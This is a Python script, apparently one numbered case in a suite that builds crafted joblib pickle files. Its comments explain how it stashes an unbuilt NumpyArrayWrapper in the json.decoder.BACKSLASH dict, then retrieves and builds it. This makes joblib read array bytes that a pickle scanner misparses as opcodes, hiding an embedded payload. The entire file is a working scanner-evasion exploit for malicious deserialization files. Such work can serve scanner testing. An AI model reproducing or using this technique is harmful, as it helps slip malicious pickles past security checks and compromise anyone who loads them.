# c4 without a SETITEM on an imported object: an empty list Y is stashed in a module-level dict
# by a call (operator.setitem(json.decoder.BACKSLASH, 'zz', Y)); an unbuilt NumpyArrayWrapper is
# then APPENDed to Y by an opcode (no call is given the wrapper, so nothing "escaped").
# operator.getitem(operator.getitem(BACKSLASH, 'zz'), 0) returns it; its BUILD makes joblib read
# 40 array bytes, which the scanner parses as opcodes (a BINSTRING over the payload).
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
D = G('json.decoder','BACKSLASH')
GI = lambda *a: G('operator','getitem') + b'(' + b''.join(a) + b'tR'
N = 40
hdr = b'\x80\x02'
hdr += G('operator','setitem') + b'(' + D + U('zz') + b']' + BINPUT(2) + b'tR0'
hdr += BINGET(2) + G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(N) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR' + b'a0'
hdr += GI(GI(D, U('zz')), I(0)) + b'}b'
run('c4b_stash_wrapper_by_append.joblib', hdr + region(N, [0]))
